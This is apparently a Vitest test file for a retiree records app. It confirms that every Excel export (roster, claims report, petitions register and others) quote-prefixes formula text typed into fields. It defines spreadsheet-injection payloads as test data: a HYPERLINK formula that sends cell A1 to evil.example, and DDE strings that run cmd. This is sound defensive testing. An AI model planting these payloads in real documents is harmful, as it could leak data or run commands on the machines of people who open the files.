// Formula text typed into a field goes out inert (issue 13, item 9; OWASP CSV injection): every
// workbook the app writes is read back, and no cell is a formula, no text cell begins with a
// formula character, the hostile text is there after its quote, and the stored values are as typed.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BatchView, ClaimFile } from '../src-main/contract/claims';
import type { Petition } from '../src-main/contract/petitions';
import { ListQuery, type PersonFile } from '../src-main/contract/retirees';
import type { AppContext } from '../src-main/app/context';
import { needsNeutralising, neutraliseFormula, restoreNeutralised } from '../src-main/documents/formulas';
import { tableSheetName } from '../src-main/documents/tableWorkbook';
import { exportRoster } from '../src-main/exporter/roster';
import { commitImport, prepareImport } from '../src-main/importer/commit';
import { checkCharacter } from '../src-main/shared/idNumber';
import { RULE_2026 } from './adjustmentRule';
import { freshContext, person, router, tempDir } from './helpers';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
const CMD = "+cmd|' /C calc'!A0";
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const ARITHMETIC = '-2+3';
const FULL_WIDTH = '＝1+1';
const HOSTILE = [HYPERLINK, CMD, AT_SUM, ARITHMETIC, FULL_WIDTH];

describe('the neutraliser', () => {
  test.each(HOSTILE.concat(['=1', '+86 138 0000 0000', '-', '@', '\t=1', '\r=1', '＠x', '－1-1']))(
    '%j is prefixed with a quote, and restored',
    (text) => {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
      expect(restoreNeutralised(neutraliseFormula(text))).toBe(text);
    },
  );

  test.each(['张桂兰', '-12', '+3.5', '-0.25', '1e3', '', "'quoted", 'a=b', ' =1'])('%j is left as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
    expect(restoreNeutralised(text)).toBe(text);
  });

  test('a quote typed before formula text survives the round trip too', () => {
    expect(neutraliseFormula("'=1")).toBe("''=1");
    expect(restoreNeutralised("''=1")).toBe("'=1");
  });

  test('sheet names from a file are made ones Excel accepts, each once', () => {
    const used = new Set<string>();
    expect(tableSheetName('a[1]:b/c?*', used)).toBe('a 1  b c');
    expect(tableSheetName('x'.repeat(40), used)).toHaveLength(31);
    expect(tableSheetName('X'.repeat(40), used)).toBe(`${'X'.repeat(28)}（2）`);
    expect(tableSheetName("''", used)).toBe('工作表');
    expect(tableSheetName('History', used)).toBe('History（2）');
  });
});

const idNumber = (birth: string, seq: string) => {
  const first = `110105${birth}${seq}`;
  return first + checkCharacter(first);
};

let ctx: AppContext;
const { call } = router(() => ctx);
const people: Record<string, PersonFile> = {};

/** Every cell of every sheet of a workbook, read back with ExcelJS. */
async function cellsOf(dataBase64: string | Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(
    (typeof dataBase64 === 'string' ? Buffer.from(dataBase64, 'base64') : dataBase64) as unknown as ArrayBuffer,
  );
  const cells: { sheet: string; address: string; type: ExcelJS.ValueType; value: ExcelJS.CellValue; text: string }[] =
    [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) =>
        cells.push({ sheet: ws.name, address: cell.address, type: cell.type, value: cell.value, text: cell.text }),
      ),
    );
  }
  return cells;
}

/** No formula anywhere; no text cell that a spreadsheet would take for one; each planted text there after its quote. */
async function expectInert(dataBase64: string | Buffer, planted: string[]) {
  const cells = await cellsOf(dataBase64);
  expect(cells.length).toBeGreaterThan(0);
  expect(
    cells.filter(
      (c) =>
        c.type === ExcelJS.ValueType.Formula ||
        (typeof c.value === 'object' && c.value !== null && ('formula' in c.value || 'sharedFormula' in c.value)),
    ),
  ).toEqual([]);
  expect(cells.filter((c) => typeof c.value === 'string' && needsNeutralising(c.value))).toEqual([]);
  for (const text of planted) {
    expect(
      cells.map((c) => c.text),
      `${text} in ${JSON.stringify(cells.map((c) => c.text))}`,
    ).toContain(`'${text}`);
  }
  return cells;
}

beforeAll(async () => {
  ctx = await freshContext();
  const make = async (key: string, fields: object) =>
    (people[key] = await call<PersonFile>('retirees.create', { person: person(fields), acceptWarnings: true }));
  await make('hostile', {
    name: ARITHMETIC,
    formerUnit: HYPERLINK,
    address: AT_SUM,
    note: CMD,
    area: '东区',
    building: FULL_WIDTH,
  });
  await make('claimant', {
    name: HYPERLINK,
    idNumber: idNumber('19500315', '002'),
    retirementDate: '2010-03',
    contributionYears: 35,
    bankName: CMD,
    bankAccount: '6222020200112233445',
  });
});
afterAll(() => ctx.close());

describe('every export leaves formula text inert, and the stored values as typed', () => {
  test('the roster (花名册), and it imports back unchanged', async () => {
    const out = await call<{ dataBase64: string }>('retirees.export', { query: {} });
    const cells = await expectInert(out.dataBase64, [HYPERLINK, CMD, AT_SUM, ARITHMETIC, FULL_WIDTH]);
    // Genuine numbers stay numbers.
    expect(cells.some((c) => c.value === 35)).toBe(true);

    const file = path.join(tempDir(), 'roster.xlsx');
    await exportRoster(ctx.store, file, ListQuery.parse({}), { full: true });
    const target = await freshContext();
    try {
      const report = commitImport(target.store, await prepareImport(fs.readFileSync(file), 'roster.xlsx'));
      expect(report.inserted).toBe(2);
      const back = target.store.raw
        .prepare('SELECT name, former_unit, address, note FROM persons WHERE name = ?')
        .get(ARITHMETIC);
      expect(back).toEqual({ name: ARITHMETIC, former_unit: HYPERLINK, address: AT_SUM, note: CMD });
    } finally {
      target.close();
    }
  });

  test('the import template', async () => {
    const out = await call<{ dataBase64: string }>('imports.template', {});
    await expectInert(out.dataBase64, []);
  });

  test('the contact sheet of a unit (组员联系表)', async () => {
    const out = await call<{ dataBase64: string }>('org.exportSheet', { ref: { kind: '片区', area: '东区' } });
    await expectInert(out.dataBase64, [ARITHMETIC, AT_SUM]);
  });

  test('the payment list (发放名单) and the claims report (药费报销统计)', async () => {
    await call('claims.savePolicy', {
      year: 2025,
      category: '退休',
      rules: {
        deductibleFen: 0,
        capFen: 100000,
        ratioBp: { 门诊: 10000, 住院: 10000, 特殊病种: 10000, 药店: 10000 },
        ageBands: [],
      },
      note: null,
    });
    let c = await call<ClaimFile>('claims.create', {
      personId: people.claimant.id,
      receivedDate: '2025-03-10',
      lines: [
        {
          invoiceNo: CMD,
          hospital: HYPERLINK,
          visitDate: '2025-03-02',
          kind: '门诊',
          total: '990',
          fund: '0',
          account: '0',
          self: '990',
        },
      ],
    });
    c = await call<ClaimFile>('claims.move', { id: c.id, version: c.version, to: '审核' });
    c = await call<ClaimFile>('claims.move', { id: c.id, version: c.version, to: '批准' });
    const batch = await call<BatchView>('batches.create', { name: AT_SUM, claimIds: [c.id] });
    const list = await call<{ dataBase64: string }>('batches.export', { id: batch.id });
    const cells = await expectInert(list.dataBase64, [HYPERLINK]);
    expect(cells.some((c) => c.text.includes(AT_SUM))).toBe(true);
    expect(cells.some((c) => c.value === 990)).toBe(true);
    const report = await call<{ dataBase64: string }>('claims.exportReport', { year: 2025 });
    await expectInert(report.dataBase64, [HYPERLINK]);
    expect((await call<ClaimFile>('claims.get', { id: c.id })).lines[0]).toMatchObject({
      invoiceNo: CMD,
      hospital: HYPERLINK,
    });
  });

  test('the petitions register (信访登记簿)', async () => {
    await call<Petition>('petitions.create', {
      receivedOn: '2025-04-01',
      channel: '来信',
      personId: null,
      petitioner: AT_SUM,
      relation: ARITHMETIC,
      phone: null,
      subject: HYPERLINK,
      content: CMD,
      handler: CMD,
    });
    const out = await call<{ dataBase64: string }>('petitions.register', { from: '2025-01-01', to: '2025-12-31' });
    await expectInert(out.dataBase64, [AT_SUM, ARITHMETIC, HYPERLINK, CMD]);
    expect((await call<Petition[]>('petitions.list', {}))[0]).toMatchObject({
      petitioner: AT_SUM,
      subject: HYPERLINK,
      content: CMD,
    });
  });

  test('the pension adjustment differences (调资核对差异名单)', async () => {
    await call('adjustments.saveRule', { rule: RULE_2026, loaded: null });
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('调资名单');
    ws.addRow(['序号', '姓名', '公民身份号码', '调整前养老金', '调整后养老金', '调整额']);
    // Names are read without their spaces: "+cmd|'/Ccalc'!A0".
    ws.addRow([1, CMD, idNumber('19510101', '046'), 2800, 2950, 150]);
    ws.addRow([2, HYPERLINK, idNumber('19500315', '002'), 4000, 4100, 100]);
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const run = await call<{ id: number }>('adjustments.import', {
      year: 2026,
      fileName: '调资名单.xlsx',
      dataBase64: bytes.toString('base64'),
    });
    const out = await call<{ dataBase64: string }>('adjustments.exportDiffs', { runId: run.id });
    await expectInert(out.dataBase64, [CMD.replace(/\s/g, ''), HYPERLINK]);
  });

  test("an import's problem list (导入问题清单): the file's cells and its column labels", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('花名册');
    ws.addRow(['姓名', '人员类别', '身份证号', '备注', AT_SUM]);
    ws.addRow([HYPERLINK, '退伍', '', CMD, ARITHMETIC]);
    ws.addRow(['王秀英', '退休', '', FULL_WIDTH, '']);
    const report = commitImport(ctx.store, await prepareImport(Buffer.from(await wb.xlsx.writeBuffer()), '名单.xlsx'));
    expect(report.importId).not.toBeNull();
    const out = await call<{ rows: number; dataBase64: string }>('imports.errorWorkbook', { id: report.importId });
    expect(out.rows).toBeGreaterThan(0);
    const cells = await expectInert(out.dataBase64, [HYPERLINK, CMD, ARITHMETIC]);
    // The column label as the importer read it (without spaces and brackets), quoted.
    expect(cells.filter((c) => c.text.startsWith("'@SUM"))).toHaveLength(1);
  });

  test('what is stored is what was typed', async () => {
    const p = await call<PersonFile>('retirees.get', { id: people.hostile.id });
    expect(p).toMatchObject({
      name: ARITHMETIC,
      formerUnit: HYPERLINK,
      address: AT_SUM,
      note: CMD,
      building: FULL_WIDTH,
    });
  });
});

describe('no workbook cell is written except through documents/tableWorkbook', () => {
  test('only documents/ loads ExcelJS: every export is a tableWorkbook', () => {
    const root = path.resolve(import.meta.dirname, '../src-main');
    const files = (fs.readdirSync(root, { recursive: true }) as string[]).filter(
      (f) => f.endsWith('.ts') && !f.startsWith('documents'),
    );
    const text = (f: string) => fs.readFileSync(path.join(root, f), 'utf8');
    expect(files.filter((f) => /from 'exceljs'|import\('exceljs'\)|require\('exceljs'\)/.test(text(f)))).toEqual([]);
    // The roster, its template and error list, the payment list, the claims report, the contact sheet, the register, the differences.
    const users = files.filter((f) => /from '\.\.\/documents\/tableWorkbook'/.test(text(f)));
    expect(users.length).toBeGreaterThanOrEqual(7);
  });
});
